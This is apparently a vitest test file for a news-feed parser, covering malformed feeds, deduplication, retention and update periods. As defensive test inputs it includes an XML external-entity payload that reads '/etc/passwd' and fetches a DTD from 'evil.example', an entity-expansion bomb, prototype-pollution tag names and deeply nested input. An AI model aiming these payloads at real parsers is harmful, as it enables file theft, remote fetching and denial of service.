import { describe, expect, test } from "vitest";
import { content, item, numbered, numberedLink, read, records, rss } from "./reading.ts";

describe("a text that is not a feed is reported as", () => {
  test.each([
    ["a web page", "<!doctype html><html><head><title>Log in</title></head></html>", "web-page"],
    [
      "a web page in XML",
      '<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"/>',
      "web-page",
    ],
    ["nothing", "", "not-a-feed"],
    ["words", "Service unavailable", "not-a-feed"],
    ["another XML", "<opml version='2.0'><body/></opml>", "not-a-feed"],
    [
      "an index of sitemaps",
      "<sitemapindex><sitemap><loc>https://tribune.example/s.xml</loc></sitemap></sitemapindex>",
      "not-a-feed",
    ],
    ["other JSON", '{"status":"ok","articles":[]}', "not-a-feed"],
    ["broken JSON", '{"version":"https://jsonfeed.org/version/1.1","items":[', "not-a-feed"],
    [
      "JSON that is nested deep",
      `{"version":"https://jsonfeed.org/version/1.1","title":"T","items":${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
      "not-a-feed",
    ],
    [
      "XML that is nested deep",
      `<rss version="2.0"><channel>${"<a>".repeat(100_000)}`,
      "not-a-feed",
    ],
    ["a tag that does not end", '<rss version="2.0"><channel><item><title>', "not-a-feed"],
  ])("%s", (_, text, failure) => {
    expect(read(text)).toBe(failure);
  });

  test("bytes", () => {
    expect(read(Uint8Array.from({ length: 1000 }, (_, i) => (i * 7919) % 256))).toBe("not-a-feed");
  });
});

describe("a feed is read that", () => {
  test("is truncated, up to its last complete item", () => {
    const whole = numbered(3, numberedLink);
    expect(records(whole.slice(0, whole.lastIndexOf("</title>")))).toHaveLength(2);
  });

  test("has stray ampersands", () => {
    const parts = "<title>Fish & chips</title><link>https://tribune.example/?a=1&b=2</link>";
    expect(records(rss(item(parts)))).toMatchObject([
      { title: "Fish & chips", webUrl: "https://tribune.example/?a=1&b=2" },
    ]);
  });

  test("has HTML's entities, and entities that do not exist", () => {
    expect(records(rss(item("<title>Caf&eacute; &nosuch; &#8212; x</title>")))[0]?.title).toBe(
      "Café &nosuch; — x",
    );
  });

  test("has control characters", () => {
    expect(records(rss(item("<title>a\u0000\u0008b\u001fc</title>")))[0]?.title).toBe("abc");
  });

  test("has an error message before it", () => {
    expect(records(`<br />\n<b>Notice</b>: x in /y.php\n${rss(item(""))}`)).toHaveLength(1);
  });

  test("has no items", () => {
    expect(content(rss(""))).toMatchObject({ articles: [], title: "The Tribune" });
  });
});

test.each(["__proto__", "constructor"])(
  "a feed with tags named %s is none, and changes nothing",
  (name) => {
    const parts = `<${name}><title>x</title></${name}>`;
    expect(read(rss(item(parts), parts))).toBe("not-a-feed");
    expect(({} as { title?: unknown }).title).toBeUndefined();
  },
);

describe("entities of a feed's own", () => {
  test("are not expanded, however deeply they are nested", () => {
    const levels = Array.from(
      { length: 20 },
      (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`,
    );
    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "boom">${levels.join("")}]>`;
    const feed = rss(item("<title>A &e20; B</title>")).replace(/^<\?xml.*\?>/, bomb);
    expect(records(feed)[0]?.title).toBe("A &e20; B");
  });

  test("read no file and no address", () => {
    const doctype = `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>`;
    const feed = rss(item("<title>A &x; B</title>")).replace(/^<\?xml.*\?>/, doctype);
    expect(records(feed)[0]?.title).toBe("A &x; B");
  });
});

describe("of many items", () => {
  test("those older than the retention are left out, but not those without a time", () => {
    const feed = rss(
      item("<title>Old</title><link>/1</link><pubDate>Sun, 01 Nov 2026 00:00:00 GMT</pubDate>") +
        item("<title>New</title><link>/2</link><pubDate>Sun, 22 Nov 2026 00:00:00 GMT</pubDate>") +
        item("<title>Undated</title><link>/3</link>"),
    );
    const { articles, leftOut } = content(feed, Date.UTC(2026, 10, 15));
    expect(articles.map(({ record }) => record.title)).toEqual(["Undated", "New"]);
    expect(leftOut.old).toBe(1);
  });

  test("those with the same address are one article, the newest", () => {
    const at = (address: string, title: string, hour: number) =>
      item(
        `<title>${title}</title><link>${address}</link><pubDate>Mon, 23 Nov 2026 0${hour}:00:00 GMT</pubDate>`,
      );
    const feed = rss(
      at("https://tribune.example/a", "First", 1) +
        at("https://www.tribune.example/a/?utm_source=rss", "Second", 3) +
        at("https://tribune.example/a/amp", "Third", 2),
    );
    expect(records(feed).map(({ title }) => title)).toEqual(["Second"]);
  });

  test("those with the same id and title are one article", () => {
    const feed = rss(
      item("<title>Same</title><link>/a</link><guid isPermaLink='false'>1</guid>") +
        item("<title>Same</title><link>/b</link><guid isPermaLink='false'>1</guid>") +
        item("<title>Other</title><link>/c</link><guid isPermaLink='false'>1</guid>"),
    );
    expect(records(feed).map(({ title }) => title)).toEqual(["Same", "Other"]);
  });
});

describe("a feed that is another site's", () => {
  const elsewhere = (i: number) => `<title>${i}</title><link>https://herald.example/${i}</link>`;

  test("is recognised by its items, however few they are", () => {
    expect(read(numbered(1, elsewhere))).toBe("other-site");
  });

  test("is not while one item is the outlet's", () => {
    expect(
      content(numbered(50, (i) => (i === 7 ? numberedLink(i) : elsewhere(i)))).articles,
    ).toHaveLength(1);
  });
});

describe("a feed states its update period", () => {
  test.each([
    ["by ttl, in minutes", "<ttl>60</ttl>", 3_600_000],
    ["by its period", "<sy:updatePeriod>hourly</sy:updatePeriod>", 3_600_000],
    [
      "by its period and how often in it",
      "<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>",
      21_600_000,
    ],
    ["by the longer of both", "<ttl>5</ttl><sy:updatePeriod>hourly</sy:updatePeriod>", 3_600_000],
    [
      "for a day at most",
      "<ttl>99999999</ttl><sy:updatePeriod>hourly</sy:updatePeriod>",
      86_400_000,
    ],
  ])("%s", (_, channel, expected) => {
    expect(content(rss("", channel)).period).toBe(expected);
  });

  test.each(["", "<ttl>soon</ttl>", "<sy:updatePeriod>never</sy:updatePeriod>"])(
    "not at all: %s",
    (channel) => {
      expect(content(rss("", channel)).period).toBeNull();
    },
  );
});
